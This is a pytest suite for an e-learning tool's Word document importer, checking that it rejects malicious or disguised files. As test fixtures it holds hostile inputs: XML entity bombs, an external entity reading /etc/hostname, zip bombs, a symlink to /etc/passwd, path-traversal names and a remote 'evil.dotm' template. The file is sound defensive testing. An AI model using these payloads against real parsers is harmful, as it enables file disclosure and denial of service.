"""Documents that mean harm, and those that are not what their name says: refused whole, with the reason."""

from __future__ import annotations

import io
import stat
import zipfile

import pytest

from elearn.content import limits
from elearn.content.problems import Place
from elearn.exchange.report import finding
from elearn.exchange.sentences import sentence_of
from elearn.exchange.word import parts, pictures
from elearn.exchange.word.document import course_of
from elearn.exchange.word.faults import WordRefused
from elearn.exchange.word.values import Options
from tests.exchange.word.documents import RELATION, TYPES, docx, p, picture, png, relations, zipped

pytestmark = pytest.mark.pure

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
PICTURE = (("rId9", "image", "media/a.png"),)


def refusal(content: bytes) -> WordRefused:
    with pytest.raises(WordRefused) as refused:
        course_of(content, "bai.docx", Options())
    return refused.value


@pytest.mark.parametrize(
    "files",
    [
        {"word/vbaProject.bin": b"x"},
        {"word/VBAPROJECT.BIN": b"x"},
        {"word/vbaData.xml": b"<x/>"},
        {"[Content_Types].xml": TYPES.replace("wordprocessingml.document.main", "ms-word.document.macroEnabled.main")},
    ],
)
def test_macros_are_refused_whatever_the_name_says(files: dict[str, bytes | str]) -> None:
    assert refusal(docx(p("a"), files)).code == "WRD001"


@pytest.mark.parametrize(
    ("content", "code", "word"),
    [
        (OLE + "EncryptedPackage".encode("utf-16-le"), "WRD002", ""),
        (OLE + "WordDocument".encode("utf-16-le"), "WRD003", ".doc"),
        (OLE + "PowerPoint Document".encode("utf-16-le"), "WRD003", ".ppt"),
        (b"{\\rtf1 a}", "WRD003", ".rtf"),
        (b"%PDF-1.7", "WRD004", "PDF"),
        (b"\x7fELF\0\0\0", "WRD004", "?"),
        (b"\xff\xd8\xff\xe0 no text", "IMP002", ""),
        (zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}), "WRD003", ".odt"),
        (zipped({"course.yml": "format: 1"}), "WRD004", "course.yml"),
        (b"PK\x03\x04 broken", "WRD011", ""),
    ],
)
def test_a_file_is_told_by_its_content(content: bytes, code: str, word: str) -> None:
    refused = refusal(content)
    assert refused.code == code
    assert word in " ".join(refused.words.values())


def test_a_workbook_with_the_name_of_a_document_is_named() -> None:
    types = TYPES.replace("wordprocessingml.document.main", "spreadsheetml.sheet.main")
    assert refusal(docx(p("a"), {"[Content_Types].xml": types})).words["found"] == ".xlsx"


ENTITIES = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'


@pytest.mark.parametrize(
    "path",
    ["word/document.xml", "word/styles.xml", "word/numbering.xml", "_rels/.rels", "[Content_Types].xml", "docProps/core.xml"],
)
def test_entities_are_refused_in_every_part(path: str) -> None:
    whole = docx(p("a"), {"docProps/core.xml": "<x/>"})
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        found = {name: archive.read(name) for name in archive.namelist()}
    found[path] = ENTITIES.encode() + found[path]
    assert refusal(zipped(dict(found))).code == "IMP007"


def test_a_file_of_this_machine_cannot_be_named() -> None:
    outside = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/hostname">]><w:document xmlns:w="x"><w:body>&a;</w:body></w:document>'
    assert refusal(docx("", {"word/document.xml": outside})).code == "IMP007"


def test_xml_deeper_than_any_document_is_refused() -> None:
    assert refusal(docx("<w:sdt><w:sdtContent>" * parts.DEEPEST + "</w:sdtContent></w:sdt>" * parts.DEEPEST)).code == "WRD007"


def test_broken_xml_is_told_with_its_part() -> None:
    refused = refusal(docx("<w:p>"))
    assert (refused.code, refused.words["part"]) == ("WRD007", "word/document.xml")


def test_a_bomb_is_refused() -> None:
    assert refusal(docx(p("a"), {"word/media/a.png": b"\0" * 40_000_000})).code == "WRD012"


def test_a_million_entries_are_refused_before_they_are_read() -> None:
    assert refusal(docx(p("a")) + b"PK\x01\x02" * 1_000_000).code == "WRD012"


def test_more_files_than_any_document_has_are_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(limits.FILES + 1):
            archive.writestr(f"word/{number}.xml", "")
    assert refusal(out.getvalue()).code == "WRD012"


def test_links_in_the_archive_are_refused() -> None:
    out = io.BytesIO(docx(p("a")))
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/media/a.png")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    assert refusal(out.getvalue()).code == "WRD013"


@pytest.mark.parametrize("path", ["../a.xml", "/a.xml", "word/../../a.xml", "word\\..\\a.xml", "..rels/a", "word/.."])
def test_names_that_leave_the_archive_are_refused(path: str) -> None:
    assert refusal(docx(p("a"), {path: "x"})).code == "WRD013"


@pytest.mark.parametrize("part", ["word/comments.xml", "customXml/item1.xml", "word/_rels/fontTable.xml.rels", "word/glossary.xml"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_refused_in_parts_that_nothing_reads(part: str, encoding: str) -> None:
    assert refusal(docx(p("a"), {part: f"{ENTITIES}<x/>".encode(encoding)})).code == "IMP007"


@pytest.mark.parametrize(
    "files",
    [
        {"[Content_Types].xml": TYPES.replace("wordprocessingml.document.main", "ms-word.document.macro&#69;nabled.main")},
        {"[Content_Types].xml": TYPES.replace("document.main+xml", "document.macroEnabled.main+xml").encode("utf-16")},
        {"word/_rels/other.xml.rels": '<Relationships><Relationship Type="http://x/vbaProject" Target="x.bin"/></Relationships>'},
    ],
)
def test_macros_are_refused_however_they_are_written(files: dict[str, bytes | str]) -> None:
    assert refusal(docx(p("a"), files)).code == "WRD001"


def settings_with(template: str) -> dict[str, bytes | str]:
    relation = f'<Relationship Id="rId1" Type="{RELATION}/attachedTemplate" Target="{template}" TargetMode="External"/>'
    head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    return {"word/_rels/settings.xml.rels": f"{head}{relation}</Relationships>", "word/settings.xml": "<x/>"}


@pytest.mark.parametrize("template", ["https://a.example/evil.dotm", "\\\\a.example\\evil.dotm", "file://a.example/evil.dotm"])
def test_a_template_from_elsewhere_is_not_looked_at_and_told(template: str) -> None:
    course = course_of(docx(p("a"), settings_with(template)), "a", Options())
    assert course.lessons[0].markdown == "a\n"
    (told,) = (problem for problem in course.losses if problem.code == "WRD059")
    assert template in sentence_of(told, "vi")


def test_a_template_on_the_machine_of_its_author_is_no_matter() -> None:
    content = docx(p("a"), settings_with("file:///C:\\Users\\a\\Normal.dotm"))
    assert [problem.code for problem in course_of(content, "a", Options()).losses if problem.code == "WRD059"] == []


def test_a_picture_of_fifty_megapixels_is_refused_without_decoding(monkeypatch: pytest.MonkeyPatch) -> None:
    def decode(*_: object) -> bytes:
        raise AssertionError("the picture was decoded")

    monkeypatch.setattr(pictures, "lighter", decode)
    large = png(10_000, 5_000, pixels=False)
    refused = refusal(docx(p("a", picture()), {"word/media/a.png": large}, PICTURE))
    assert (refused.code, refused.words["found"]) == ("WRD008", "50")


def test_a_picture_of_a_gigapixel_is_refused() -> None:
    assert refusal(docx(p("a", picture()), {"word/media/a.png": png(40_000, 40_000, pixels=False)}, PICTURE)).code == "WRD008"


def test_a_heavy_picture_is_made_lighter_than_200_kb() -> None:
    noise = io.BytesIO()
    pictures.Image.effect_noise((1300, 1000), 90).convert("RGB").save(noise, "JPEG", quality=95)
    course = course_of(docx(p("a", picture()), {"word/media/a.png": noise.getvalue()}, PICTURE), "a", Options())
    assert len(course.media[0].content) <= limits.IMAGE_WARNING_BYTES
    assert "WRD039" in {problem.code for problem in course.losses}


def test_a_relation_to_itself_ends() -> None:
    content = docx(p("a"), {"_rels/.rels": relations(("rId1", "officeDocument", "_rels/.rels"))})
    assert refusal(content).code == "WRD004"


def test_styles_that_are_based_on_each_other_end() -> None:
    styles = (
        '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:style w:styleId="A"><w:name w:val="A"/><w:basedOn w:val="B"/></w:style>'
        '<w:style w:styleId="B"><w:name w:val="B"/><w:basedOn w:val="A"/></w:style></w:styles>'
    )
    assert course_of(docx(p("a", style="A"), {"word/styles.xml": styles}), "a", Options()).lessons[0].markdown == "a\n"


def test_a_number_far_beyond_any_list_is_written_in_digits() -> None:
    numbering = (
        '<w:numbering xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:abstractNum w:abstractNumId="0">'
        '<w:lvl w:ilvl="0"><w:start w:val="99999999"/><w:numFmt w:val="upperLetter"/><w:lvlText w:val="%1."/></w:lvl>'
        "</w:abstractNum>"
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    course = course_of(docx(p("a", listed=(1, 0)), {"word/numbering.xml": numbering}), "a", Options())
    assert course.lessons[0].markdown == "99999999\\. a\n"


def test_tables_that_span_everything_stay_small() -> None:
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="99999999"/></w:tcPr>{p("a")}</w:tc>'
    course = course_of(docx(f"<w:tbl><w:tr>{cell}{cell}</w:tr><w:tr>{cell}</w:tr></w:tbl>" + p("b")), "a", Options())
    assert len(course.lessons[0].markdown) < 2_000


def test_a_document_that_was_cut_off_is_told_to_people_who_have_word() -> None:
    refused = refusal(docx(p("a"))[:-200])
    words = sentence_of(finding(Place("x.docx"), refused.code, **refused.words))
    assert (refused.code, "Word" in words, "zip" in words) == ("WRD011", True, False)


@pytest.mark.parametrize(
    ("content", "encoding"),
    [
        ("Công dân co\u0301 quyê\u0300n khiê\u0301u na\u0323i, tô\u0301 ca\u0301o".encode("cp1258"), "windows-1258"),
        ("Coâng daân coù quyeàn khieáu naïi. Thôøi haïn bao nhieâu ngaøy?".encode("latin-1"), "VNI"),
    ],
)
def test_text_in_an_encoding_of_one_byte_is_named(content: bytes, encoding: str) -> None:
    refused = refusal(content)
    assert (refused.code, refused.words["encoding"]) == ("IMP003", encoding)
